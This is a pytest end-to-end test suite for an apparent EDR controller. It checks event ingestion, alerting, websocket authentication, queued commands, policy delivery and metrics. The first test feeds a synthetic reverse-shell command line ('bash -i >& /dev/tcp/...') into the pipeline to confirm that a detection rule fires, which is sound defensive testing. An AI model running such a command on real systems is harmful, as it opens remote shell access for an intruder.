"""End to end over the real pieces: HTTPS controller app, backplane with mutual TLS, a real
sensor-side client and outbox, real SQLite, the authenticated websocket stream."""

from __future__ import annotations

import os
import ssl
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import orjson
import pytest
import websockets.exceptions
import websockets.sync.client as ws_client

sys.path.insert(0, str(Path(__file__).parent))

from core_harness import Controller, Stream, wait_for

from backplane.schema import Action, Tier, new_event
from controller.store import CommandStatus

pytestmark = pytest.mark.timeout(120)


def exec_event(
    host_id: str, cmdline: str, pid: int, parent: dict[str, Any] | None = None
) -> dict[str, Any]:
    ev = new_event(Action.EXEC, host={"id": host_id, "name": "sensor-01"}, tier=Tier.FALLBACK)
    exe = "/usr/bin/bash" if cmdline.startswith("bash") else "/usr/bin/" + cmdline.split()[0]
    ev["process"] = {
        "pid": pid,
        "entity_id": f"e{pid}",
        "executable": exe,
        "name": exe.rsplit("/", 1)[1],
        "command_line": cmdline,
        "args": cmdline.split(),
        "parent": parent or {},
    }
    ev["user"] = {"id": "1000", "name": "alice"}
    return ev


def get(ctl: Controller, path: str, token: str | None = None) -> tuple[int, bytes]:
    req = urllib.request.Request(ctl.url + path)  # noqa: S310 - always https here
    if token:
        req.add_header("Authorization", f"Bearer {token}")
    ctx = ctl.ssl_context()
    ctx.check_hostname = False  # the certificate names localhost; we dial 127.0.0.1 as well
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:  # noqa: S310
            return resp.status, resp.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def test_batch_is_stored_and_reverse_shell_alert_reaches_the_websocket(controller, sensor_factory):
    sensor = sensor_factory().start()
    host = sensor.host_id
    token = controller.api_token("viewer")
    everything = Stream(controller, token)
    only_high_alerts = Stream(controller, token, f"?kind=alert&severity=high&host={host}")
    other_host = Stream(controller, token, "?host=somebody-else")
    try:
        # A parent shell the controller sees first, then the reverse shell it starts.
        parent = exec_event(host, "sshd: alice [priv]", 100)
        benign = [
            exec_event(host, f"ls -l /tmp/{i}", 200 + i, {"pid": 100, "entity_id": "e100"})
            for i in range(50)
        ]
        shell = exec_event(
            host,
            "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1",
            300,
            {"pid": 100, "entity_id": "e100", "executable": "/usr/sbin/sshd"},
        )
        sensor.outbox.append([parent, *benign, shell])
        sensor.outbox.flush()

        alert = only_high_alerts.next(lambda m: m["kind"] == "alert", timeout=15)
        data = alert["data"]
        assert data["rule_id"] == "10efcd0d-9ae2-4b62-a8cf-3db9e6bdb7ba"
        assert data["severity"] == "high" and data["host_id"] == host
        assert data["event"]["process"]["command_line"].startswith("bash -i >& /dev/tcp/")
        assert data["ancestry"][0]["entity_id"] == "e100"
        assert data["ancestry"][0]["command_line"] == "sshd: alice [priv]"
        assert data["event_id"] is not None

        # The unfiltered stream saw the events themselves (with the certificate's host id).
        seen = everything.next(
            lambda m: m["kind"] == "event" and m["data"]["process"]["pid"] == 300
        )
        assert seen["data"]["host_id"] == host

        store = controller.ctx.store
        stored = wait_for(
            lambda: store.search_events(host_id=host, limit=100).events, 5, "events stored"
        )
        assert len(stored) == 52
        assert store.get_event(data["event_id"]).event["process"]["pid"] == 300
        [row] = store.list_alerts(host_id=host)
        assert row.rule_name.startswith("Shell Redirected")
        # Nothing for a host filter that matches no host, and only the alert on the
        # alert-only stream.
        time.sleep(0.3)
        assert other_host.messages.empty()
        assert all(m["kind"] == "alert" for m in list(only_high_alerts.messages.queue))

        status, body = get(controller, "/metrics")
        assert status == 200
        text = body.decode()
        assert "edr_ingest_events_total 52" in text
        assert 'edr_rule_hits_total{rule="Shell Redirected' in text
        assert "edr_alerts_total 1" in text
        assert "edr_backplane_hosts_connected 1" in text
    finally:
        for s in (everything, only_high_alerts, other_host):
            s.close()


def test_duplicate_batch_counted_not_stored_twice(controller, sensor_factory):
    sensor = sensor_factory().start()
    hooks = controller.ctx.hooks
    events = [exec_event(sensor.host_id, "true", 1)]
    assert controller.call(hooks.commit_batch(sensor.host_id, 7, events, 0)) is True
    assert controller.call(hooks.commit_batch(sensor.host_id, 7, events, 0)) is False
    assert controller.ctx.metrics.duplicates == 1
    assert len(controller.ctx.store.search_events(host_id=sensor.host_id).events) == 1


def test_stream_refuses_without_valid_credentials(controller):
    url = f"wss://127.0.0.1:{controller.port}/api/v1/stream"
    for headers, status in (
        ({}, 401),
        ({"Authorization": "Bearer edr_nope"}, 401),
        (
            {"Authorization": f"Bearer {controller.api_token()}", "Origin": "https://evil.example"},
            403,
        ),
    ):
        with pytest.raises(websockets.exceptions.InvalidStatus) as err:
            ws_client.connect(
                url,
                ssl=controller.ssl_context(),
                server_hostname="localhost",
                additional_headers=headers,
                open_timeout=5,
            )
        assert err.value.response.status_code == status
        assert "error" in orjson.loads(err.value.response.body)


def test_stream_bad_filter_is_reported_and_closed(controller):
    url = f"wss://127.0.0.1:{controller.port}/api/v1/stream?severity=urgent"
    with ws_client.connect(
        url,
        ssl=controller.ssl_context(),
        server_hostname="localhost",
        additional_headers={"Authorization": f"Bearer {controller.api_token()}"},
        open_timeout=5,
    ) as ws:
        msg = orjson.loads(ws.recv(timeout=5))
        assert msg["kind"] == "error" and "urgent" in msg["error"]
        with pytest.raises(websockets.exceptions.ConnectionClosed) as closed:
            ws.recv(timeout=5)
        assert closed.value.rcvd is not None and closed.value.rcvd.code == 1008


def test_command_for_offline_host_runs_when_it_connects(controller, sensor_factory):
    sensor = sensor_factory("sensor-cmd")
    store = controller.ctx.store
    # The host is known (it connected once before) but offline now.
    sensor.start()
    wait_for(lambda: store.get_host(sensor.host_id).online, 5, "host registered")
    sensor.client.stop()
    cmd = store.queue_command(sensor.host_id, "kill", {"pid": 4242}, "alice", "idem-1", 60)
    assert store.get_command(cmd.id).status == CommandStatus.QUEUED

    # Reconnect with a fresh client on the same credentials and outbox.
    from backplane.client import BackplaneClient

    sensor.client = BackplaneClient(
        sensor.client.config,
        sensor.outbox,
        hello=sensor._hello,
        on_command=sensor._on_command,
        on_policy=sensor._on_policy,
    )
    sensor.start()
    wait_for(lambda: sensor.commands, 10, "command delivered")
    assert sensor.commands[0].id == str(cmd.id)
    assert sensor.commands[0].action == "kill" and sensor.commands[0].args == {"pid": 4242}
    done = wait_for(
        lambda: (c := store.get_command(cmd.id)).status == CommandStatus.SUCCEEDED and c,
        10,
        "result stored",
    )
    assert done.output == {"did": "kill", "args": {"pid": 4242}, "status": "ok"}
    assert controller.ctx.metrics.command_results == 1


def test_command_result_from_another_host_is_ignored(controller, sensor_factory):
    a = sensor_factory("sensor-a").start()
    b = sensor_factory("sensor-b").start()
    store = controller.ctx.store
    cmd = store.queue_command(a.host_id, "kill", {"pid": 1}, "alice", "idem-x", 60)
    from backplane.messages import CommandResult

    controller.call(
        controller.ctx.hooks.command_result(b.host_id, CommandResult(str(cmd.id), "ok", {}))
    )
    controller.call(
        controller.ctx.hooks.command_result(b.host_id, CommandResult("not-a-number", "ok", {}))
    )
    assert store.get_command(cmd.id).status == CommandStatus.QUEUED  # untouched
    controller.run(lambda: controller.ctx.backplane.notify_command(a.host_id))
    wait_for(
        lambda: store.get_command(cmd.id).status == CommandStatus.SUCCEEDED,
        10,
        "its own host's result",
    )
    assert all(c.id != str(cmd.id) for c in b.commands)


def test_policy_change_reaches_sensor_and_applied_version_is_recorded(controller, sensor_factory):
    sensor = sensor_factory("sensor-pol").start()
    store = controller.ctx.store
    pv = store.put_policy({"deny": {"hashes": ["ab" * 32]}}, "alice", "block a hash")
    controller.run(lambda: controller.ctx.backplane.notify_policy(sensor.host_id))
    wait_for(lambda: sensor.policies, 10, "policy delivered")
    assert sensor.policies[-1] == (pv.version, {"deny": {"hashes": ["ab" * 32]}})
    host = wait_for(
        lambda: (h := store.get_host(sensor.host_id)).policy_version == pv.version and h,
        10,
        "applied version recorded",
    )
    assert host.policy_applied_at is not None


def test_heartbeat_metrics_recorded(controller, sensor_factory):
    sensor = sensor_factory("sensor-hb").start()
    store = controller.ctx.store
    host = wait_for(
        lambda: (h := store.get_host(sensor.host_id)).metrics and h, 10, "heartbeat stored"
    )
    assert "cpu_percent" in host.metrics
    assert host.hostname == "sensor-hb" and host.tiers == {"process": "fallback"}


def test_unknown_routes_are_json_and_static_metrics_is_plain(controller):
    status, body = get(controller, "/api/v1/nope")
    assert status == 404 and "error" in orjson.loads(body)
    ctx = ssl.create_default_context(cafile=str(controller.pki.ca_path))
    # The server certificate is valid for the configured names.
    with urllib.request.urlopen(
        f"https://localhost:{controller.port}/metrics", context=ctx, timeout=10
    ) as resp:
        assert resp.headers["content-type"].startswith("text/plain; version=0.0.4")


@pytest.mark.skipif(os.geteuid() != 0, reason="checks file modes as created by root umask")
def test_state_directory_is_private(controller):
    assert (controller.config.state_dir.stat().st_mode & 0o777) == 0o700
    assert (controller.config.db_path.stat().st_mode & 0o077) == 0
    assert (controller.pki.server_key_path.stat().st_mode & 0o077) == 0
